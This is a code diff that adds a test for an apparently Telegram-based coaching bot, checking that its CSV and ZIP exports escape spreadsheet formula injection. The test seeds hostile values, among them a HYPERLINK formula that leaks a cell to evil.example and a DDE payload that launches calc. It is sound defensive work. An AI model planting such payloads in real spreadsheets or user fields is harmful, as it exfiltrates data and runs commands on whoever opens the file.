@@ -13,11 +13,12 @@ from datetime import UTC, datetime
 import pytest
 from PIL import Image
 from pypdf import PdfReader
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from coachbot.bot.callbacks import ProgressCb, ReportAction, ReportCb
 from coachbot.delivery import progress_jobs
-from coachbot.storage.tables import GeneratedFileRow, ReportPlanRow
+from coachbot.domain.checkins.model import MetricEntry
+from coachbot.storage.tables import ClientRow, GeneratedFileRow, ReportPlanRow, UserRow
 from coachbot.storage.uow import SqlUnitOfWork
 from tests.e2e.checkin_helpers import move_clock_to, onboarded_client
 from tests.e2e.conftest import Harness
@@ -208,6 +209,68 @@ async def test_the_coach_exports_a_whole_record_as_zip_files_within_the_upload_l
         else None
     )
     assert photo is None or photo[:3] == b"\xff\xd8\xff"  # decrypted JPEG
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(document: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(document.decode("utf-8-sig"))) for cell in row]
+
+
+async def test_no_csv_the_bot_writes_starts_a_formula_with_what_a_client_typed(
+    harness: Harness,
+):
+    """Every CSV of the client's CSV export and of the coach's ZIP export, scanned whole:
+    text a person typed that a spreadsheet would run is written as text ('=...)."""
+    cleo = await onboarded_client(harness)
+    await seed_weights(harness, cleo.id, [(2, 80.0)])
+    await seed_photo_checkins(harness, cleo.id, [1], photos_each=1)
+    client_id, user_id, _coach = await client_ids(harness, cleo.id)
+    await open_progress_menu(harness)  # the card is found by the name, before it changes
+    async with harness.app.session_factory() as session, session.begin():
+        await session.execute(
+            update(ClientRow)
+            .where(ClientRow.id == client_id)
+            .values(display_name=HOSTILE, notes="+1 555 0100", tags=["-x"], email="@cleo")
+        )
+    async with SqlUnitOfWork(harness.app.session_factory) as uow:
+        await uow.metrics.add(
+            MetricEntry(
+                client_id=client_id,
+                metric="body_fat",
+                value=-1.5,  # a number the bot writes: stays a number
+                measured_at=harness.clock.now(),
+                created_at=harness.clock.now(),
+                source="=cmd|' /C calc'!A0",
+            )
+        )
+        await uow.commit()
+    await cleo.send_text("/export")
+    documents = [(await cleo.next_bot_message()).document]
+    async with harness.app.session_factory() as session, session.begin():
+        # After Cleo's last update: each one refreshes her names from Telegram.
+        await session.execute(
+            update(UserRow)
+            .where(UserRow.id == user_id)
+            .values(first_name="\t=1+1", last_name="\r=2+2", username="-3+3")
+        )
+    coach = harness.admin
+    await coach.press("📦 Export everything (ZIP)")
+    await coach.next_bot_message()
+    chat = await coach.wait_for(
+        lambda chat: any(m.kind == "document" for m in chat.bot_messages), timeout=10
+    )
+    for part in [m for m in chat.bot_messages if m.kind == "document"]:
+        archive = zipfile.ZipFile(io.BytesIO(part.document))
+        documents += [archive.read(n) for n in archive.namelist() if n.endswith(".csv")]
+    assert len(documents) >= 10  # the metrics CSV and every table of the record
+    cells = [cell for document in documents for cell in csv_cells(document)]
+    assert f"'{HOSTILE}" in cells and "'+1 555 0100" in cells and "'\t=1+1" in cells
+    assert "-1.5" in cells  # the measurement, unquoted
+    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-1.5"]
+    assert dangerous == []
 
 
 @pytest.mark.settings(export_part_mb=0.01)
